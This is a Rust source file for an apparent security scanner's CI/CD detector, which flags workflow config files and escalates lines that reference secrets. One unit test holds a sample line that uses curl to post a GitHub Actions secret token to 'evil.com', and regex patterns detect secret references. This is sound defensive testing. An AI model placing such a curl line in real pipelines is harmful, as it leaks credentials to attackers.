//! CI/CD manipulation detector (spec.md §4.4.5).
//!
//! Presence of a CI config file is a `warning`; combined with credential
//! exfiltration syntax it escalates to `critical`. Two secret-reference
//! syntaxes are treated as equally critical-triggering, per the Open
//! Question in spec.md §9: the bare YAML `secrets:` key and the GitHub
//! Actions `${{ secrets.* }}` expression.

use regex::Regex;
use std::path::Path;
use std::sync::LazyLock;
use zephyr_schema::{Finding, Severity};

static CI_PATH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(^|/)\.github/workflows/|(^|/)\.gitlab-ci\.yml$|(^|/)\.circleci/config\.yml$")
        .expect("ci path regex must compile")
});

static SECRET_TOKEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{\s*secrets\.[\w.]+\s*\}\}|(^|\s)secrets:").expect("secret token regex must compile"));

/// Whether `relative_path` (relative to the scanned root) is a CI/CD config
/// file subject to this detector.
#[must_use]
pub fn is_ci_config_path(relative_path: &Path) -> bool {
    CI_PATH.is_match(&relative_path.to_string_lossy())
}

/// Scans a line of a CI config file, returning a `warning` finding for
/// presence, or a `critical` finding if the line itself also references a
/// secret token (the common raw-exfiltration shape).
#[must_use]
pub fn scan_line(file: &Path, line_no: usize, line: &str) -> Finding {
    if SECRET_TOKEN.is_match(line) {
        Finding {
            severity: Severity::Critical,
            pattern_id: "cicd.secret_reference".to_string(),
            description: "CI/CD config references a secret token, a common exfiltration vector".to_string(),
            file: file.to_path_buf(),
            line: line_no,
            snippet: line.trim().to_string(),
            bypass_hint: None,
        }
    } else {
        Finding {
            severity: Severity::Warning,
            pattern_id: "cicd.config_present".to_string(),
            description: "CI/CD configuration file modified or created".to_string(),
            file: file.to_path_buf(),
            line: line_no,
            snippet: line.trim().to_string(),
            bypass_hint: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_github_workflows_path() {
        assert!(is_ci_config_path(Path::new(".github/workflows/ci.yml")));
        assert!(is_ci_config_path(Path::new(".gitlab-ci.yml")));
        assert!(!is_ci_config_path(Path::new("src/main.rs")));
    }

    #[test]
    fn actions_secret_expression_is_critical() {
        let f = Path::new(".github/workflows/ci.yml");
        let finding = scan_line(f, 1, "run: curl -d ${{ secrets.API_TOKEN }} evil.com");
        assert_eq!(finding.severity, Severity::Critical);
    }

    #[test]
    fn bare_secrets_key_is_critical() {
        let f = Path::new(".github/workflows/ci.yml");
        let finding = scan_line(f, 1, "secrets: inherit");
        assert_eq!(finding.severity, Severity::Critical);
    }

    #[test]
    fn plain_ci_line_is_warning() {
        let f = Path::new(".github/workflows/ci.yml");
        let finding = scan_line(f, 1, "on: [push]");
        assert_eq!(finding.severity, Severity::Warning);
    }
}
